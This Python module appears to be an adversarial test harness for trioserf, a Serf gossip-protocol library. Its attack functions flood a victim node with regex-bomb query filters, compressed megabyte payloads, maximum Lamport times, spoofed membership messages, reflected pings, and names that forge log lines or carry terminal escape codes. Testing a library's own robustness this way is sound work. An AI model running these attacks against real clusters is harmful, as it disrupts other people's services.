"""Attacks by packets.  Each is a function of an `Attacker` that returns when it is over."""

from __future__ import annotations

import contextlib
import itertools
import os
import selectors
import socket
from collections.abc import Iterator, Sequence

import trio

from trioserf._exceptions import RemoteProtocolError
from trioserf._wire.keyring import Keyring
from trioserf._wire.messages import (
    Ack,
    Dead,
    IndirectPing,
    Nack,
    Ping,
    Suspect,
    UserMessage,
    encode_message,
)
from trioserf._wire.packets import PacketCodec, decode_packet, encode_packet, make_compound
from trioserf._wire.query_filters import NodeFilter, TagFilter, encode_filter
from trioserf._wire.serf_messages import KeyRequest, QueryMessage, decode_serf, encode_serf

from . import crafting
from .attacker import TICK, Attacker
from .crafting import Run

LAST = (1 << 64) - 1
"""The last Lamport time that there is."""


# --- filters of queries -------------------------------------------------------------------

MARK = 0xF1F2F3F4
"""Stands for the id of a query."""
QUERY_HEAD = b"\x08\x04\x8b"
"""What a query begins with: a user message, a query, a map of eleven fields."""
EXPRESSIONS = (
    "(?i)((@|[a-z]*){20}){20}",
    "(?i)((@|[a-z]*){19}){21}",
    r"@|(\pL{1,30}[^x]*){1,30}",
    "@|((a*)*|(b*)*|(c*)*){30}",
    "(?i)@|" + "|".join("abcdefghijklmnop"),
    "@|([^a]{1,50}[^b]{1,18})*$",
)
"""Dear to compile, to run, or both; an @ is replaced, so that no cache knows the expression."""
VARIANTS = 12
"""Packets with expressions of their own, after which they come again."""


def _spliced(filters: Sequence[bytes], flags: int) -> crafting.Spliced:
    """Queries with such filters, compressed but for id and Lamport time, which come first."""
    whole = crafting.query(1, MARK, filters=tuple(filters), flags=flags)
    numbers = b"\xa2ID\xce" + MARK.to_bytes(4, "big") + b"\xa5LTime\x01"
    before, found, after = whole.partition(numbers)
    assert found, "fields are in the order of their names"
    return crafting.Spliced(before[len(QUERY_HEAD) :] + after)


def _numbered(spliced: crafting.Spliced, time: int, number: int) -> bytes:
    ltime = b"\xa5LTime\xcf" + time.to_bytes(8, "big")
    return spliced.message(QUERY_HEAD + b"\xa2ID\xce" + number.to_bytes(4, "big") + ltime)


def _filtered(
    attacker: Attacker, expressions: Sequence[str], count: int, flags: int
) -> Iterator[bytes]:
    """Packets of two queries each, with ``count`` filters on tags in each query."""
    rests = [
        _spliced(
            [
                encode_filter(TagFilter("role", expression.replace("@", f"{turn}x{i}")))
                for i in range(count)
            ],
            flags,
        )
        for turn in range(VARIANTS)
        for expression in expressions
    ]
    for number in itertools.count(1 << 29):
        rest, time = rests[number % len(rests)], attacker.next_time()
        yield make_compound([_numbered(rest, time, 2 * number + i) for i in range(2)])


async def filters(attacker: Attacker) -> None:
    """Queries of 60 filters on tags, each an expression that is dear to compile."""
    await attacker.flood(_filtered(attacker, EXPRESSIONS[:1], 60, flags=2))


async def filters_few(attacker: Attacker) -> None:
    """The same, four packets a second."""
    await attacker.flood(_filtered(attacker, EXPRESSIONS[:1], 60, flags=2), share=4 / attacker.rate)


async def filters_gossiped(attacker: Attacker) -> None:
    """The same, as short as one packet and passed on by all."""
    await attacker.flood(_filtered(attacker, EXPRESSIONS[:2], 20, flags=0))


async def filters_of_all_kinds(attacker: Attacker) -> None:
    """Many sorts of expressions: classes, alternatives, nested repetitions."""
    await attacker.flood(_filtered(attacker, EXPRESSIONS, 30, flags=2))


async def filters_of_names(attacker: Attacker) -> None:
    """Queries for thousands of nodes by name."""
    names = encode_filter(NodeFilter(tuple(f"n{i}" for i in range(8000))))
    rest = _spliced([names], 2)
    await attacker.flood(_numbered(rest, 1 << 20, (1 << 29) + i) for i in itertools.count())


# --- user events --------------------------------------------------------------------------


async def events_large(attacker: Attacker) -> None:
    """Events of a megabyte, compressed to two kilobytes, each of a Lamport time of its own."""
    await attacker.flood(
        crafting.large_event(attacker.next_time(), 1_000_000) for _ in itertools.count()
    )


async def events_of_one_time(attacker: Attacker) -> None:
    """Thousands of events of 1.2 kB, all of one Lamport time."""
    payload = bytes(1150)
    time = attacker.next_time()
    await attacker.flood(crafting.event(time, f"e{i}", payload) for i in itertools.count())


async def events_of_many_times(attacker: Attacker) -> None:
    """Events of 9 kB in many Lamport times."""
    payload = attacker.rng.randbytes(9000)
    await attacker.flood(
        crafting.event(attacker.next_time() + i % 5, f"e{i}", payload) for i in itertools.count()
    )


async def events_small(attacker: Attacker) -> None:
    """As many short events as fit into a packet, each of a Lamport time of its own."""
    await attacker.flood(
        crafting.compounds(crafting.event(attacker.next_time(), "e") for _ in itertools.count())
    )


async def queries_small(attacker: Attacker) -> None:
    """As many short queries as fit into a packet, which are passed on by all."""
    await attacker.flood(
        crafting.compounds(
            crafting.query(attacker.next_time(), i, flags=0) for i in itertools.count()
        )
    )


# --- Lamport times ------------------------------------------------------------------------


async def time_last_event(attacker: Attacker) -> None:
    """An event of the last Lamport time, again and again."""
    await attacker.flood(crafting.event(LAST - i % 3, f"last {i}") for i in itertools.count())


async def time_last_query(attacker: Attacker) -> None:
    """A query of the last Lamport time, again and again."""
    await attacker.flood(crafting.query(LAST - i % 3, i, flags=0) for i in itertools.count())


async def time_far_query(attacker: Attacker) -> None:
    """One query far in the future that nobody passes on: the victim alone jumps ahead."""
    attacker.send(crafting.query(1 << 40, 1))
    await attacker.wait_end()


async def time_far_event(attacker: Attacker) -> None:
    """One event far in the future that is too long for gossip."""
    attacker.send(crafting.event(1 << 40, "far", bytes(8000)))
    await attacker.wait_end()


async def time_creeping(attacker: Attacker) -> None:
    """Times that climb by what may be plausible, as fast as they can."""
    step = 1 << 31

    def messages() -> Iterator[bytes]:
        for i in itertools.count(1):
            yield crafting.query(i * step, i)
            yield crafting.event(i * step, "creeping", bytes(1350))
            yield crafting.join(i * step, attacker.honest)

    await attacker.flood(messages())


async def time_last_leave(attacker: Attacker) -> None:
    """Honest members are said to leave, at the last Lamport time."""

    def messages() -> Iterator[bytes]:
        for i in itertools.count():
            yield crafting.leave(LAST - i % 2, attacker.honest, prune=i % 4 == 3)
            yield crafting.leave(LAST - i % 2, attacker.victim)
            yield crafting.join(LAST, attacker.honest)

    await attacker.flood(messages())


# --- logs ---------------------------------------------------------------------------------


async def log_long_names(attacker: Attacker) -> None:
    """Names of a megabyte, in everything of which a log might speak."""
    size = 900_000

    def long(message: bytes, mark: bytes) -> bytes:
        head, _, tail = message.partition(mark)
        return crafting.compressed(
            head[:-1] + b"\xdb" + size.to_bytes(4, "big"), Run(65, size), tail
        )

    mark = b"NAME"
    pool = [
        long(crafting.response(5, 7, "NAME"), mark),
        long(crafting.event(1, "NAME"), mark),
        long(crafting.query(1, 5, name="NAME"), mark),
        long(crafting.query(1 << 20, 6, name="_serf_NAME"), b"_serf_NAME"),
        long(crafting.leave(1 << 20, "NAME"), mark),
        long(encode_message(Suspect(1, attacker.victim, "NAME")), mark),
        long(encode_message(Ping(1, "NAME")), mark),
    ]
    await attacker.flood(itertools.cycle(pool))


async def log_control_characters(attacker: Attacker) -> None:
    """Names that would forge lines of a log, or move the cursor of a terminal."""
    evil = (
        "x\n2026/01/01 [ERR] all is lost",
        "\x1b[2J\x1b[31mred",
        "a\u202ecba",
        "tab\there\r\x00\x7f",
    )

    def messages() -> Iterator[bytes]:
        for i in itertools.count():
            name = f"{evil[i % 4]} {i // 40}"
            yield crafting.event(1 + attacker.next_time() % 600, name)
            yield crafting.query(attacker.next_time(), i, name=name, source_node=name)
            yield crafting.query(1 + i % 100, i, name=name, source_node=name)
            yield crafting.query(attacker.next_time(), i, name=f"_serf_{name}", source_node=name)
            yield crafting.query(attacker.next_time(), i, name=name, filters=(b"\x07", b"\x01\xc1"))
            yield crafting.response(5, 7, name)
            yield encode_message(Suspect(1, attacker.victim, name))
            yield encode_message(Ping(1, name))
            yield crafting.leave(attacker.next_time(), name)
            if i % 50 == 0:
                yield crafting.alive(name, "127.9.9.9", 9)
                yield crafting.alive(name, "127.9.9.8", 9)

    await attacker.flood(messages())


async def log_old_events(attacker: Attacker) -> None:
    """Events and queries that are too old, and responses to queries that nobody asked."""
    attacker.send(crafting.event(100_000, "now"))
    attacker.send(crafting.query(100_000, 1))
    await attacker.flood(
        itertools.chain.from_iterable(
            (
                crafting.event(1 + i % 1000, f"old {i}"),
                crafting.query(1 + i % 1000, i),
                crafting.response(1 + i % 1000, i, f"n{i}"),
            )
            for i in itertools.count()
        )
    )


# --- names --------------------------------------------------------------------------------


async def votes(attacker: Attacker) -> None:
    """Somebody takes the victim's name, and forty who are no members swear to it."""
    await _votes(attacker, forty=True)


async def votes_alone(attacker: Attacker) -> None:
    """A node that is alone meets one that takes its name."""
    await _votes(attacker, forty=False)


async def _votes(attacker: Attacker, *, forty: bool) -> None:
    """Send another address for the victim's name, and answer the queries that follow."""
    ear = trio.socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    await ear.bind((attacker.host, 0))
    host, port = ear.getsockname()
    keyring = None if attacker.key is None else Keyring((attacker.key,))
    codec = PacketCodec(keyring=keyring)

    def answer(message: QueryMessage) -> None:
        from trioserf._wire.serf_messages import MemberRecord, encode_conflict_response

        record = MemberRecord(
            attacker.victim, socket.inet_aton(host), port, {}, 1, 2, 5, 4, 2, 5, 4
        )
        payload = encode_conflict_response(record)
        names = [f"voter {i}" for i in range(40)] if forty else ["ear"]
        for name in names:
            attacker.send(crafting.response(message.ltime, message.id, name, payload))

    async def listen() -> None:
        while True:
            data, source = await ear.recvfrom(65536)
            try:
                decoded = decode_packet(data, codec)
            except RemoteProtocolError:
                continue
            for message in decoded.messages:
                if isinstance(message, Ping):
                    attacker.target, kept = source, attacker.target
                    attacker.send(encode_message(Ack(message.seq_no, b"")))
                    attacker.target = kept
                elif isinstance(message, UserMessage) and message.body[:1] == b"\x04":
                    query = decode_serf(message.body)
                    if isinstance(query, QueryMessage) and query.name == "_serf_conflict":
                        answer(query)

    def lies() -> Iterator[bytes]:
        for i in itertools.count():
            yield crafting.alive("ear", host, port, 1 + i)
            yield crafting.alive(attacker.victim, host, port, 2 + i % 50)

    async with trio.open_nursery() as nursery:
        nursery.start_soon(listen)
        await attacker.flood(lies(), share=0.02)
        nursery.cancel_scope.cancel()
    ear.close()


# --- cheap to multiply --------------------------------------------------------------------


async def many_keys(attacker: Attacker) -> None:
    """Thousands of keys are installed, and then comes garbage that every key is tried on."""

    def install() -> Iterator[bytes]:
        for i in range(2000):
            payload = encode_serf(KeyRequest(attacker.rng.randbytes(16)))
            yield crafting.query(attacker.next_time(), i, name="_serf_install-key", payload=payload)

    await attacker.flood(install())
    await attacker.flood(attacker.again(lambda: b"\x01" + attacker.rng.randbytes(800)), raw=True)


async def conflict_queries(attacker: Attacker) -> None:
    """Two hundred conflict queries in a packet, whose answers go to somebody else."""
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.bind((attacker.host, 0))
    host, port = sink.getsockname()

    def message() -> bytes:
        parts = [
            crafting.query(
                attacker.next_time(),
                attacker.rng.getrandbits(31),
                name="_serf_conflict",
                payload=attacker.victim.encode(),
                addr=socket.inet_aton(host),
                port=port,
                flags=3,
            )
            for _ in range(200)
        ]
        return make_compound([make_compound(parts[:100]), make_compound(parts[100:])])

    await attacker.flood(attacker.again(message), share=0.1)
    sink.close()


async def acks_guessed(attacker: Attacker) -> None:
    """Acks and nacks with every number that a ping might have."""

    def messages() -> Iterator[bytes]:
        for i in itertools.count(0, 60):
            yield make_compound(
                [encode_message(Ack((i + j) % 5000, b"\x01")) for j in range(60)]
                + [encode_message(Nack((i + j) % 5000)) for j in range(60)]
            )

    await attacker.flood(messages())


async def ghosts(attacker: Attacker) -> None:
    """A hundred thousand nodes that nobody has ever reached."""

    def made_up() -> Iterator[bytes]:
        for i in range(100_000):
            host = f"127.{100 + i // 65536}.{i // 256 % 256}.{i % 256}"
            yield crafting.alive(f"ghost-{i}", host, 9)

    await attacker.flood(crafting.compounds(made_up()))


async def ghosts_slowly(attacker: Attacker) -> None:
    """The same, one in each packet."""
    await attacker.flood(
        crafting.alive(f"ghost-{i}", f"127.101.{i // 256 % 256}.{i % 256}", 9)
        for i in itertools.count()
    )


async def ghosts_answering(attacker: Attacker) -> None:
    """Made-up nodes at a few addresses, always new ones, that ping the victim and answer it."""
    await _answering(attacker, addresses=8)


async def ghosts_at_many_addresses(attacker: Attacker) -> None:
    """The same, each at an address of its own."""
    await _answering(attacker, addresses=400)


async def _answering(attacker: Attacker, *, addresses: int) -> None:
    """Say that nodes are alive, ping in their names, and answer every ping."""
    codec = PacketCodec(keyring=None if attacker.key is None else Keyring((attacker.key,)))
    head, _, _ = attacker.host.rpartition(".")
    ears: list[socket.socket] = []
    selector = selectors.DefaultSelector()
    for number in range(addresses):
        ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        ear.bind((f"{head}.{200 + number % 50}", 0))
        ear.setblocking(False)
        selector.register(ear, selectors.EVENT_READ)
        ears.append(ear)

    def seal(message: bytes) -> bytes:
        if attacker.key is None:
            return message
        return encode_packet(message, codec, crc=False, nonce=os.urandom(12))

    def answer() -> None:
        for key, _ in selector.select(0):
            ear = key.fileobj
            assert isinstance(ear, socket.socket)
            for _ in range(100):
                try:
                    data, source = ear.recvfrom(65536)
                    decoded = decode_packet(data, codec)
                except OSError:
                    break
                except RemoteProtocolError:
                    continue
                for message in decoded.messages:
                    if isinstance(message, Ping):
                        with contextlib.suppress(OSError):
                            ear.sendto(seal(encode_message(Ack(message.seq_no, b""))), source)

    def send(number: int) -> None:
        ear = ears[number % len(ears)]
        host, port = ear.getsockname()
        address, name = socket.inet_aton(host), f"ghost-{number}"
        ping = encode_message(Ping(number, attacker.victim, address, port, name))
        message = make_compound([crafting.alive(name, host, port), ping])
        attacker.packets += 1
        attacker.bytes_sent += len(message)
        with contextlib.suppress(OSError):
            ear.sendto(seal(message), attacker.target)

    burst, numbers = max(1, int(attacker.rate * TICK / 2)), itertools.count()
    while attacker.left > 0:
        for number in itertools.islice(numbers, burst):
            send(number)
            send(max(0, number - 100 * burst))  # that one was taken, if there was room
        answer()
        await trio.sleep(TICK)
    selector.close()
    for ear in ears:
        ear.close()


async def ghosts_declared_dead(attacker: Attacker) -> None:
    """Made-up nodes, always others, of which the next message says that they left or failed."""

    def messages() -> Iterator[bytes]:
        for i in itertools.count():
            name = f"ghost-{i}"
            yield crafting.alive(name, f"127.106.{i // 256 % 256}.{i % 256}", 9)
            yield encode_message(Dead(1, name, name if i % 2 else "ghost"))

    await attacker.flood(crafting.compounds(messages()))


async def ghosts_suspected(attacker: Attacker) -> None:
    """A hundred made-up nodes that others suspect and declare dead, and that refute it."""

    def messages() -> Iterator[bytes]:
        for i in itertools.count():
            name, incarnation = f"ghost-{i % 100}", 1 + i // 100
            yield crafting.alive(name, f"127.102.0.{i % 100}", 9, incarnation)
            for other in range(5):
                yield encode_message(Suspect(incarnation, name, f"ghost-{other}"))
            yield encode_message(Dead(incarnation, name, "ghost-1"))

    await attacker.flood(crafting.compounds(messages()))


async def ghosts_updated(attacker: Attacker) -> None:
    """A few made-up nodes that change their tags, of full length, with every packet."""

    def messages() -> Iterator[bytes]:
        for i in itertools.count():
            tags = b"\xff\x81\xa4role\xda\x01\xf0" + f"{i:06}".encode() + b"x" * 490
            yield crafting.alive(f"ghost-{i % 10}", f"127.103.0.{i % 10}", 9, 1 + i // 10, tags)

    await attacker.flood(messages())


async def names_in_other_case(attacker: Attacker) -> None:
    """Nodes whose names look like those of members: in other case, with marks and spaces."""

    def names() -> Iterator[str]:
        for i in itertools.count():
            for name in (attacker.victim, attacker.honest):
                yield from (name.upper(), name.title(), name + " " * (1 + i % 50), name + "\u0301")
                yield "".join(c.upper() if i >> n & 1 else c for n, c in enumerate(name))

    await attacker.flood(
        crafting.alive(name, f"127.104.{i // 256 % 256}.{i % 256}", 9, 1 + i)
        for i, name in enumerate(names())
    )


async def intents_of_nobody(attacker: Attacker) -> None:
    """Members that nobody knows join and leave, a new one in each message."""

    def messages() -> Iterator[bytes]:
        for i in itertools.count():
            yield crafting.join(attacker.next_time(), f"nobody-{i}")
            yield crafting.leave(attacker.next_time(), f"nobody-{i}", prune=i % 2 == 0)

    await attacker.flood(crafting.compounds(messages()))


async def acks_and_nacks(attacker: Attacker) -> None:
    """Acks and nacks that nobody waits for, with payloads as long as they may be."""

    def messages() -> Iterator[bytes]:
        for i in itertools.count():
            yield encode_message(Nack(i))
            yield encode_message(Ack(i, bytes(i % 1200)))

    await attacker.flood(crafting.compounds(messages()))


async def labels(attacker: Attacker) -> None:
    """Packets with the label of another cluster, always another one."""

    def messages() -> Iterator[bytes]:
        for i in itertools.count():
            label = f"label {i} \x1b[31m".encode()
            yield bytes((244, len(label))) + label + crafting.alive(f"ghost-{i}", "127.105.0.1", 9)

    await attacker.flood(messages(), raw=True)


async def pings(attacker: Attacker) -> None:
    """Pings and indirect pings, answers to which go to somebody else."""
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.bind((attacker.host, 0))
    host, port = sink.getsockname()
    address = socket.inet_aton(host)

    def messages() -> Iterator[bytes]:
        for i in itertools.count():
            ping = encode_message(Ping(i, attacker.victim, address, port, "sink"))
            indirect = encode_message(
                IndirectPing(i, address, port, "sink", True, address, port, "sink")
            )
            yield make_compound([ping, indirect] * 20)

    await attacker.flood(messages())
    sink.close()


async def suspects(attacker: Attacker) -> None:
    """The victim and an honest node are suspected and declared dead by all sorts of names."""

    def messages() -> Iterator[bytes]:
        for i in itertools.count():
            for name in (attacker.victim, attacker.honest):
                yield encode_message(Suspect(i % 100, name, f"s{i}"))
                yield encode_message(Dead(i % 100, name, f"s{i}"))

    await attacker.flood(messages(), share=0.1)


async def garbage(attacker: Attacker) -> None:
    """Bytes that mean nothing."""

    def message() -> bytes:
        kind = attacker.rng.choice((0, 1, 2, 3, 4, 5, 7, 8, 9, 10, 12, 244, 255))
        return bytes((kind,)) + attacker.rng.randbytes(attacker.rng.choice((0, 3, 40, 1300)))

    await attacker.flood(attacker.again(message), raw=True)


async def wrong_key(attacker: Attacker) -> None:
    """Whole packets that were encrypted by a key that nobody has."""
    codec = PacketCodec(keyring=Keyring((attacker.rng.randbytes(16),)), compress=False)

    def message() -> bytes:
        plain = crafting.event(attacker.next_time(), "e", attacker.rng.randbytes(1200))
        return encode_packet(plain, codec, crc=False, nonce=attacker.rng.randbytes(12))

    pool = [message() for _ in range(500)]
    await attacker.flood(itertools.cycle(pool), raw=True)


async def no_key(attacker: Attacker) -> None:
    """Packets that are not encrypted, of every kind, to a cluster that has a key."""

    def messages() -> Iterator[bytes]:
        for i in itertools.count():
            yield crafting.alive(f"ghost-{i}", "127.107.0.1", 9)
            yield crafting.event(attacker.next_time(), "e", bytes(1000))
            yield encode_message(Suspect(i % 100, attacker.victim, f"s{i}"))
            yield crafting.leave(attacker.next_time(), attacker.honest)
            yield encode_message(Ping(i, attacker.victim))

    await attacker.flood(messages(), raw=True)


async def bombs(attacker: Attacker) -> None:
    """Compressed megabytes of things that are dear to parse."""
    size = 1_000_000
    pool = [
        crafting.compressed(b"\x08\x03", Run(byte, size)) for byte in (0x90, 0x81, 0xC0, 0x07, 0xDF)
    ]
    pool += [crafting.compressed(b"\x07\xff", Run(0, size)), crafting.compressed(Run(9, size))]
    pool += [crafting.compressed(b"\x04", Run(byte, size)) for byte in (0x90, 0x81, 0xDD)]
    await attacker.flood(itertools.cycle(pool))
